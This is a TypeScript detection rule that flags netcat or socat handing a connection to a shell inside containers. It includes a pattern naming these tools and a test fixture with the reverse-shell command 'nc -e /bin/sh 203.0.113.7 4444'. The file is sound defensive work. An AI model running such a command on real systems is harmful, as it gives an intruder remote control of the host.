import { defineDetection } from './define.ts';

export const netcatRunsAShell = defineDetection({
  name: 'Netcat runs a shell',
  source: 'syscall',
  severity: 'HIGH',
  attack: [
    { id: 'T1059.004', name: 'Unix Shell' },
    { id: 'T1095', name: 'Non-Application Layer Protocol' },
  ],
  description:
    'netcat or socat was told to give its connection to a shell: what somebody writes at the other end is run.',
  remediation:
    'Isolate the pod by a network policy, keep it for evidence, and find out how somebody came in. Take its service account token and its secrets for stolen.',
  falsePositives: 'None that we know of.',
  references: ['https://attack.mitre.org/techniques/T1059/004/'],
  condition:
    'starts and ((proc.name in (nc, ncat, netcat, nc.traditional, nc.openbsd) and proc.args regex "(.* )?(-[a-z]*[ec]|--exec|--sh-exec)[ =]?.*(sh|bash|cmd).*") or (proc.name = socat and proc.args contains anyof ("exec:", "EXEC:", "system:", "SYSTEM:") and proc.args icontains anyof (bash, "/sh", "sh,")) or (proc.cmdline contains "/dev/tcp/" and proc.cmdline contains ">&"))',
  output:
    'Netcat runs a shell (command=%proc.cmdline parent=%proc.pname container=%container.id pod=%k8s.pod.uid user=%user.name)',
  fires: {
    'evt.type': 'execve',
    'proc.name': 'nc',
    'proc.exepath': '/usr/bin/nc',
    'proc.cmdline': 'nc -e /bin/sh 203.0.113.7 4444',
    'proc.args': '-e /bin/sh 203.0.113.7 4444',
    'proc.pname': 'sh',
    'evt.time': '2026-01-02T03:04:05.000000006Z',
    'container.id': '0123456789ab',
    'k8s.pod.uid': '3f2b8a52-7c1d-4a57-9f0a-0d6c2f1f9a10',
    'user.name': 'root',
  },
  nearMiss: {
    because: 'It tries out a port.',
    change: {
      'proc.name': 'nc',
      'proc.exepath': '/usr/bin/nc',
      'proc.cmdline': 'nc -v 10.0.0.7 80',
      'proc.args': '-v 10.0.0.7 80',
    },
  },
});
